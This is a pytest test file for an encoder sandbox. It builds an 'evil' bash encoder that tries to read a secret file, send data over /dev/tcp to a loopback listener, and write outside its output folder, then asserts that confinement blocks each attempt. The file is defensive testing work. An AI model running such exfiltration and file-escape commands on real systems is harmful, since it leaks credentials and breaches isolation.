"""A bundle's encoder runs confined: it reads only its input (and bundle, runtimes, system), writes only its output
folder, and has no network. An "evil" encoder tries each escape; every attempt must fail under confinement."""

from __future__ import annotations

import logging
import shutil
import socket
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from farm import sandbox
from farm.bundle import Bundle, verify_dir, write_sums
from farm.config.suite import Generate, Sequence
from farm.errors import InputError
from farm.media import Source, encode, render
from tests.support.cli import EXAMPLES

EVIL = """#!/bin/bash
set -e
in=$1 out=$2
case $3 in
  101) cat {secret} > "$out" ;;                                      # read a file outside the input
  102) exec 3<>/dev/tcp/127.0.0.1/{port}; echo stolen >&3; cp "$in" "$out" ;;  # phone home
  103) echo planted > {plant}; cp "$in" "$out" ;;                    # write outside the output folder
  *) cp "$in" "$out" ;;                                              # an honest encoder: copies its input
esac
"""


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A real TCP server on the host's loopback: what an escaped encoder would reach."""
    got: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                got.append(conn.recv(100))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], got
    stop.set()
    thread.join()
    server.close()


@pytest.fixture
def evil(tmp_path: Path, listener: tuple[int, list[bytes]]) -> tuple[Bundle, Source, Path]:
    secret = tmp_path / "secret.txt"
    secret.write_text("the lab's SSH key\n")
    root = tmp_path / "evil"
    shutil.copytree(EXAMPLES / "av1-svt", root)
    (root / "evil.sh").write_text(EVIL.format(secret=secret, port=listener[0], plant=tmp_path / "planted"))
    manifest = (root / "bundle.yaml").read_text()
    start = manifest.index("encoder:")
    end = manifest.index("targets:")
    encoder = (
        "encoder:\n  output_ext: y4m\n  files: [evil.sh]\n"
        '  argv: ["/bin/bash", "{bundle}/evil.sh", "{input}", "{output}", "{rate}"]\n'
    )
    (root / "bundle.yaml").write_text(manifest[:start] + encoder + manifest[end:])
    write_sums(root)
    seq = Sequence(id="s", generate=Generate(source="testsrc2", width=64, height=64, frames=2))
    return verify_dir(root), render(seq, tmp_path / "cache"), tmp_path


def test_this_host_confines_encoders() -> None:
    state = sandbox.confinement()
    assert state.confined, f"encoders would run unconfined here: {state.reason}"


@pytest.mark.parametrize(
    ("rate", "why"),
    [
        (101, "No such file or directory"),
        (102, "Connection refused|Network is unreachable"),
        (103, "Read-only file system"),
    ],
)
def test_an_evil_encoder_cannot_escape(
    evil: tuple[Bundle, Source, Path], listener: tuple[int, list[bytes]], rate: int, why: str
) -> None:
    bundle, source, folder = evil
    with pytest.raises(InputError, match=why) as exc:
        encode(bundle, source, rate, folder / "cache")
    assert exc.value.exit_code == 2
    assert not (folder / "planted").exists()
    assert listener[1] == []  # nothing reached the host's network
    assert not list((folder / "cache" / "bitstreams").glob("*.y4m"))


def test_an_honest_encoder_runs_confined(evil: tuple[Bundle, Source, Path]) -> None:
    bundle, source, folder = evil
    out = encode(bundle, source, 104, folder / "cache")
    assert out.path.read_bytes() == source.path.read_bytes()


def test_where_the_host_cannot_confine_the_encode_runs_and_says_so_once(
    evil: tuple[Bundle, Source, Path], monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    bundle, source, folder = evil
    tools = folder / "bin"  # a host without bubblewrap: the encoder's tools are there, bwrap is not
    tools.mkdir()
    for tool in ("cat", "cp"):
        (tools / tool).symlink_to(str(shutil.which(tool)))
    monkeypatch.setenv("PATH", str(tools))
    sandbox.confinement.cache_clear()
    sandbox._warned.clear()
    rates = [101, *range(104, 111)]
    try:  # encoded as the planner does, in parallel: still one warning
        with caplog.at_level(logging.WARNING, logger="farm.sandbox"), ThreadPoolExecutor(4) as pool:
            done = list(pool.map(lambda rate: encode(bundle, source, rate, folder / "cache"), rates))
    finally:
        sandbox.confinement.cache_clear()
        sandbox._warned.clear()
    assert done[0].path.read_text() == "the lab's SSH key\n"  # the risk the warning names is real
    warnings = [r.getMessage() for r in caplog.records if "NOT confined" in r.getMessage()]
    assert len(warnings) == 1 and "bubblewrap (bwrap) is not installed" in warnings[0]
